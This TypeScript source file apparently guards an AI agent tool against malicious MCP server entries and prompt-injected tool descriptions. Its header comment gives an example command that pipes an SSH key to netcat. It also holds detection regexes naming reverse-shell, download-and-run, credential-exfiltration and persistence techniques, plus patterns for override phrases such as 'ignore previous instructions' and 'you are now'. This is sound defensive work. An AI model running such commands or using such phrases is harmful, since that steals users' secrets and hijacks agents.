/**
 * Checks on what an MCP server entry would run, before it runs, and on what a server says about
 * its tools. hermes `hermes_cli/mcp_security.py` (`_filter_suspicious_mcp_servers`) refuses a
 * stdio entry whose command line is itself an attack: a shell with an inline script that sends
 * secrets off the machine or plants persistence. The "hermes-0day" campaign (#45620) shipped such
 * entries in shared config snippets.
 *
 * Two layers, both over the command line only (never over the package a command fetches):
 *
 * 1. The command-safety engine (src/approval/detection) parses the whole command line as the
 *    terminal tool's approval does: it unwraps `bash -c`, `env`, `sudo`, `node -e` /
 *    `python -c` payloads and PowerShell / cmd scripts, and follows pipes, so
 *    `sh -c 'cat ~/.ssh/id_rsa | nc x 1'` is "credentials sent to the network" however it is
 *    quoted. Only the rules in `REFUSING_RULES` refuse an entry: an MCP launcher may well clean a
 *    cache (`rm -rf`) or restart a container, but has no business exfiltrating, fetching and
 *    running code, or writing SSH keys, shell start-up files, crontabs or system files.
 * 2. Text rules (`INLINE_SCRIPT_RULES`, hermes' own list, widened to Python / Node / PowerShell
 *    network APIs) over the inline script an interpreter anywhere in the line is given (`-c`,
 *    `-e`, `-Command`, `-EncodedCommand` decoded, `cmd /c …`, `npx -c` / `npm exec -c`). They catch what the engine cannot see into: Python
 *    and Node code that opens sockets itself, `/dev/tcp` redirections, DNS exfiltration.
 *
 * The engine needs the bash grammar for some command texts; `suspiciousStdioCommand` is
 * synchronous and uses the grammar when it is loaded, the fast parser otherwise, and when
 * neither can take the text it relies on layer 2 alone. `checkStdioCommand` says which case it
 * was (`complete`): launch.ts starts a server at once on a complete verdict (most launchers, such
 * as `npx -y pkg args`, are in the fast parser's subset) and loads the grammar (`loadMcpCommandScanner()`)
 * and asks again otherwise, so no server starts on the text rules' word alone.
 *
 * Not covered (docs/mcp-results.md#security): what a package run by `npx -y` / `uvx` / `docker
 * run` does once started (a malicious package is indistinguishable from its command line), a
 * script file the command runs (`node ./evil.js`), and obfuscation the engine reports only as
 * unanalysable (an entry is not refused for being unanalysable alone).
 */
import { detect } from "../../approval/detection/index.js";
import { initShellParser, withoutShellGrammar } from "../../shell/index.js";

/**
 * Engine rules that refuse an entry, with the reason shown to the user (`mibyan mcp list`).
 * Every `hardline-*` rule refuses too (wiping the home directory is never a launcher's job).
 */
export const REFUSING_RULES: Readonly<Record<string, string>> = Object.freeze({
  "credential-exfiltration": "sends credentials, keys, .env files or the environment to another machine",
  "remote-code-execution": "downloads code from the network and runs it (or opens a reverse shell)",
  "obfuscated-execution": "runs code that is decoded or transformed first, hiding what runs",
  "exec-via-environment": "sets a variable that makes programs load other code (LD_PRELOAD, BASH_ENV, ...)",
  "exec-via-tool-option": "runs a command hidden in an option of a tool that usually only reads",
  "credential-file-write": "writes to a credential or account file (SSH keys, authorized_keys, cloud credentials, sudoers)",
  "shell-rc-write": "writes to a shell start-up file (persistence)",
  "crontab-change": "changes the crontab (persistence)",
  "system-file-write": "writes to a file the operating system owns",
  "privilege-setuid": "makes a program run with its owner's privileges",
  "privilege-group-add": "adds a user to an administrative group",
  "account-change": "changes passwords or accounts",
  "firewall-disable": "turns off the firewall",
  "security-module-disable": "turns off SELinux or AppArmor",
  "history-wipe": "wipes shell history (covering tracks)",
});

/** Interpreters whose inline code is a script: how the code is passed. */
interface InlineSpec {
  /** Options whose next argument is the code (matched case-insensitively for PowerShell / cmd). */
  codeOptions: readonly string[];
  /** Options after which the rest of the arguments is the code (cmd `/c`, PowerShell `-Command`). */
  restOptions?: readonly string[];
  /** Single-letter shell flags may be combined (`-lc`, `-ec`): a flag group containing `c` takes the code. */
  shellFlags?: boolean;
  /** `-EncodedCommand` (base64 of UTF-16LE). */
  encodedOptions?: readonly string[];
}

const SHELL: InlineSpec = { codeOptions: ["-c"], shellFlags: true };
const PYTHON: InlineSpec = { codeOptions: ["-c"] };
const PACKAGE_RUNNER: InlineSpec = { codeOptions: ["-c", "--call"] };
const POWERSHELL: InlineSpec = {
  codeOptions: [],
  restOptions: ["-command", "-c", "/command", "/c"],
  encodedOptions: ["-encodedcommand", "-enc", "-e", "-ec"],
};

/** Interpreter basenames (lower case, `.exe` removed) → how they take inline code. */
const INTERPRETERS: Readonly<Record<string, InlineSpec>> = Object.freeze({
  sh: SHELL,
  bash: SHELL,
  zsh: SHELL,
  dash: SHELL,
  ksh: SHELL,
  ash: SHELL,
  fish: SHELL,
  busybox: SHELL,
  pwsh: POWERSHELL,
  powershell: POWERSHELL,
  cmd: { codeOptions: [], restOptions: ["/c", "/k", "/r"] },
  node: { codeOptions: ["-e", "--eval", "-p", "--print"] },
  deno: { codeOptions: ["eval"] },
  bun: { codeOptions: ["-e", "--eval"] },
  python: PYTHON,
  python3: PYTHON,
  perl: { codeOptions: ["-e", "-E"] },
  ruby: { codeOptions: ["-e"] },
  php: { codeOptions: ["-r"] },
  osascript: { codeOptions: ["-e"] },
  // Package runners that take a shell command string (`npx -c "…"`, `npm exec -c "…"`).
  npx: PACKAGE_RUNNER,
  npm: PACKAGE_RUNNER,
  pnpm: PACKAGE_RUNNER,
});

/** Inline scripts longer than this are refused unread: no real launcher needs one, and a scan must stay cheap. */
export const MAX_INLINE_SCRIPT_CHARS = 64 * 1024;

/** A text rule over an inline script: it matches when every one of `all` does. */
interface TextRule {
  id: string;
  reason: string;
  all: readonly Matcher[];
}

interface Matcher {
  test(text: string): boolean;
}

const anyOf = (...patterns: RegExp[]): Matcher => ({ test: (text) => patterns.some((p) => p.test(text)) });

// Every pattern is linear: alternations of literals, and any free-text gap between two parts is
// bounded ({0,200}), so a 64 KiB script full of near-misses still scans in microseconds.
const EGRESS =
  /\b(?:curl|wget|nc|ncat|netcat|socat|telnet|scp|sftp|rsync|ftp|tftp|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|Net\.WebClient|UploadFile|UploadString|urlopen|urllib|requests\.(?:post|put|get)|http\.client|httpx|socket\.(?:socket|create_connection)|net\.connect|net\.createConnection|https?\.request|XMLHttpRequest|dig|nslookup)\b|\bfetch\s*\(|\/dev\/(?:tcp|udp)\//i;
const EXFIL_HINT = anyOf(
  /\.env\b|--data-binary|--data(?:-raw|-urlencode)?[= ]|\s-d\s*@|\s-F\s|--form\b|--upload-file|\s-T\s|--post-(?:file|data)|-InFile\b|-Body\b|<\s*[~$/.\w]|\bdata\s*=|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|\.ssh\b|\.aws\b|\.netrc\b|\.git-credentials\b|\.npmrc\b|\.pypirc\b|\.docker\/config|\.kube\/config|\bcredentials\b|\bprintenv\b|\benv\s*\||process\.env\b|os\.environ\b|\$env:|\bbase64\b/i,
  // Case-sensitive: the HTTP method, not the word "post".
  /\bPOST\b/,
);
/** Locations whose mere mention in a launcher is persistence or privilege work. */
const PERSISTENCE_PATH =
  /authorized_keys|\/etc\/ssh\/|\/etc\/pam\.d|\bpam_\w+\.so\b|\/etc\/sudoers|\bcrontab\b|\/etc\/cron|\/var\/spool\/cron|\/etc\/rc\.local|\/etc\/ld\.so\.preload|\.config\/autostart|LaunchAgents|LaunchDaemons|systemd\/(?:user|system)\/|\bsystemctl\s+(?:--user\s+)?enable\b|CurrentVersion\\Run\b|\bschtasks\b|\bRegister-ScheduledTask\b/i;
/**
 * Shell start-up files are read by every nvm / pyenv launcher (`source ~/.bashrc && npx …`), so
 * only a write to one counts: a redirection, tee, cp/mv/ln or a PowerShell / script write before it.
 */
const RC_FILE_WRITE =
  /(?:>>?|\btee\b|\bcp\b|\bmv\b|\bln\b|\bsed\s+-i|Add-Content|Set-Content|Out-File|appendFile|writeFile|open\s*\()[^;&|\n]{0,200}?(?:\.(?:bashrc|bash_profile|bash_login|zshrc|zprofile|zshenv|zlogin|profile|kshrc|cshrc|tcshrc)\b|\/etc\/profile|\/etc\/bash\.bashrc|\$PROFILE\b)/i;
const REVERSE_SHELL =
  /\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat)\b[^|;&\n]{0,200}?\s-[ec]\s|\bsocat\b[^|;&\n]{0,200}?\b(?:EXEC|SYSTEM):|\bpty\.spawn\b/i;
const DOWNLOAD_AND_RUN =
  /\b(?:curl|wget|iwr|Invoke-WebRequest|irm|Invoke-RestMethod)\b[^\n;&|]{0,300}\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\b(?:iex|Invoke-Expression)\b[^\n]{0,300}?\b(?:DownloadString|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b/i;

export const INLINE_SCRIPT_RULES: readonly TextRule[] = Object.freeze([
  { id: "egress-with-exfil-hint", reason: "its inline script reaches the network and names secrets or an upload (possible exfiltration)", all: [EGRESS, EXFIL_HINT] },
  { id: "persistence-path", reason: "its inline script touches a persistence location (authorized_keys, sudoers, crontab, autostart)", all: [PERSISTENCE_PATH] },
  { id: "rc-file-write", reason: "its inline script writes to a shell start-up file (persistence)", all: [RC_FILE_WRITE] },
  { id: "reverse-shell", reason: "its inline script opens a raw network connection or a reverse shell", all: [REVERSE_SHELL] },
  { id: "download-and-run", reason: "its inline script downloads code and runs it", all: [DOWNLOAD_AND_RUN] },
]);

/** Loads the bash grammar, so that `suspiciousStdioCommand` always runs the full analysis. Idempotent. */
export function loadMcpCommandScanner(): Promise<void> {
  return initShellParser();
}

/**
 * Why the stdio entry `command args…` must not be started, or `undefined` when nothing in its
 * command line looks like an attack. Never throws.
 */
export function suspiciousStdioCommand(command: string, args: readonly string[]): string | undefined {
  return checkStdioCommand(command, args).refusal;
}

/** The verdict on a stdio command line, and whether it is the full analysis's. */
export interface StdioCommandCheck {
  /** Why it must not be started; `undefined`: nothing looks like an attack. */
  refusal: string | undefined;
  /**
   * True when this is the verdict the full analysis gives: a text rule refused it, or the engine
   * judged the whole line (with the grammar, or on the fast parser alone, which gives the same tree
   * for every text it takes: src/shell/parser.ts). False when some text in the line needs the bash
   * grammar and it is not loaded yet: the verdict is the text rules' alone, and a caller that must
   * not start a server before the full check (launch.ts) loads the grammar and asks again.
   */
  complete: boolean;
}

/** `suspiciousStdioCommand`, saying whether the verdict is final without the bash grammar. Never throws. */
export function checkStdioCommand(command: string, args: readonly string[]): StdioCommandCheck {
  try {
    const words = [command, ...args].map((word) => String(word));
    for (const script of inlineScripts(words)) {
      if (script.length > MAX_INLINE_SCRIPT_CHARS) {
        return { refusal: `refused: its inline script is ${script.length} characters long (limit ${MAX_INLINE_SCRIPT_CHARS}); put the server's code in a file`, complete: true };
      }
      for (const rule of INLINE_SCRIPT_RULES) {
        if (rule.all.every((pattern) => pattern.test(script))) return { refusal: `refused: ${rule.reason} [${rule.id}]`, complete: true };
      }
    }
    return engineCheck(words);
  } catch (thrown) {
    // A bug in an analyser must not start a server it could not judge, nor crash discovery.
    return { refusal: `refused: its command line could not be checked (${thrown instanceof Error ? thrown.message : String(thrown)})`, complete: true };
  }
}

function engineCheck(words: readonly string[]): StdioCommandCheck {
  const line = words.map(quoteWord).join(" ");
  if (line.length > MAX_INLINE_SCRIPT_CHARS * 2) return { refusal: `refused: its command line is ${line.length} characters long`, complete: true };
  const detection = withoutShellGrammar(() => detect(line));
  // Needs the grammar, not loaded: the text rules above decided, for now.
  if (detection === undefined) return { refusal: undefined, complete: false };
  for (const match of detection.matches) {
    const reason = REFUSING_RULES[match.rule] ?? (match.hardline ? match.description : undefined);
    if (reason !== undefined) return { refusal: `refused: its command line ${reason} [${match.rule}: ${match.prefix}]`, complete: true };
  }
  return { refusal: undefined, complete: true };
}

/** Single-quotes a word for bash unless it needs none. */
function quoteWord(word: string): string {
  return /^[A-Za-z0-9_@%+=:,./-]+$/.test(word) ? word : `'${word.replace(/'/g, `'\\''`)}'`;
}

function programName(word: string): string {
  const base = (word.split(/[\\/]/).pop() ?? word).toLowerCase().replace(/\.exe$/, "");
  // python3.12, pwsh-preview and the like take code the same way.
  return /^python[0-9.]*$/.test(base) ? "python" : base.replace(/-preview$/, "");
}

/** The inline scripts in a command line: what each interpreter in it is given as code. */
export function inlineScripts(words: readonly string[]): string[] {
  const scripts = new Set<string>();
  // Every interpreter in the line counts, not only the first word: launchers put them anywhere
  // (`env X=1 bash -c`, `uv run python -c`, `docker run img sh -c`, `npm exec -c`).
  const limit = Math.min(words.length, MAX_WORDS);
  for (let start = 0; start < limit; start++) {
    const spec = INTERPRETERS[programName(words[start]!)];
    if (spec !== undefined) readInlineCode(spec, words.slice(start + 1, limit), scripts);
  }
  return [...scripts];
}

/** Words of a command line looked at for interpreters (a real launcher has a few dozen at most). */
const MAX_WORDS = 256;

function readInlineCode(spec: InlineSpec, rest: readonly string[], scripts: Set<string>): void {
  for (let i = 0; i < rest.length; i++) {
    const word = rest[i]!;
    const lower = word.toLowerCase();
    if (spec.restOptions?.includes(lower)) {
      scripts.add(rest.slice(i + 1).join(" "));
      return;
    }
    if (spec.encodedOptions?.includes(lower) && i + 1 < rest.length) {
      scripts.add(decodePowerShell(rest[i + 1]!));
      i++;
      continue;
    }
    const codeOption = spec.codeOptions.includes(word) || (spec.shellFlags === true && /^-[a-z]*c[a-z]*$/.test(word));
    if (codeOption && i + 1 < rest.length) {
      scripts.add(rest[i + 1]!);
      i++;
      continue;
    }
    // `--eval=code`, `--call=code`, `python -ccode`.
    if (/^--(?:eval|print|call)=/.test(word)) scripts.add(word.replace(/^--(?:eval|print|call)=/, ""));
    else if (spec === PYTHON && /^-c./.test(word)) scripts.add(word.slice(2));
  }
}

function decodePowerShell(encoded: string): string {
  try {
    return Buffer.from(encoded, "base64").toString("utf16le");
  } catch {
    return encoded;
  }
}

/**
 * Prompt-injection patterns in tool descriptions (hermes `_scan_mcp_description`): a server's
 * descriptions go into the model's context verbatim. Findings are logged, the tool is still
 * registered (false positives are common: a shell tool may honestly mention `curl`).
 */
export const DESCRIPTION_PATTERNS: ReadonlyArray<{ name: string; pattern: RegExp }> = Object.freeze([
  { name: "ignore-previous-instructions", pattern: /\b(?:ignore|disregard|forget)\s+(?:all\s+|any\s+)?(?:the\s+)?(?:previous|prior|above|earlier|preceding)\s+(?:instructions|prompts?|rules|directions)/i },
  { name: "role-reassignment", pattern: /\byou\s+are\s+now\s+(?:a|an|the|in)\b/i },
  { name: "system-prefix", pattern: /(?:^|\n)\s*system\s*:/i },
  { name: "role-tags", pattern: /<\/?(?:system|assistant|user|instructions?|im_start|im_end)>|<\|im_(?:start|end)\|>|\[\/?INST\]/i },
  { name: "concealment", pattern: /\bdo\s+not\s+(?:tell|inform|mention|reveal|show)\b[^.\n]{0,40}\b(?:user|human|anyone)\b|\bwithout\s+(?:telling|informing)\s+the\s+user\b/i },
  { name: "curl-url", pattern: /\b(?:curl|wget)\s+[^\n]{0,40}https?:\/\//i },
  { name: "base64-decode", pattern: /\bbase64\s+(?:-d|--decode)\b|\batob\s*\(|\bb64decode\b|FromBase64String/i },
  { name: "exec-eval", pattern: /\b(?:exec|eval)\s*\(/i },
  { name: "subprocess-import", pattern: /\bimport\s+subprocess\b|\brequire\(\s*['"]child_process['"]\s*\)/i },
  { name: "secret-file-read", pattern: /~\/\.ssh\/|\bid_rsa\b|\.aws\/credentials|\bread\s+(?:the\s+)?\.env\b/i },
]);

/** Longest description scanned; past it only the head is (a description is read by a model, not a scanner). */
const MAX_DESCRIPTION_SCAN = 100_000;

/** Names of the injection patterns `text` matches (empty when none). Never throws. */
export function scanToolDescription(text: string): string[] {
  if (typeof text !== "string" || text === "") return [];
  const head = text.length > MAX_DESCRIPTION_SCAN ? text.slice(0, MAX_DESCRIPTION_SCAN) : text;
  return DESCRIPTION_PATTERNS.filter(({ pattern }) => pattern.test(head)).map(({ name }) => name);
}
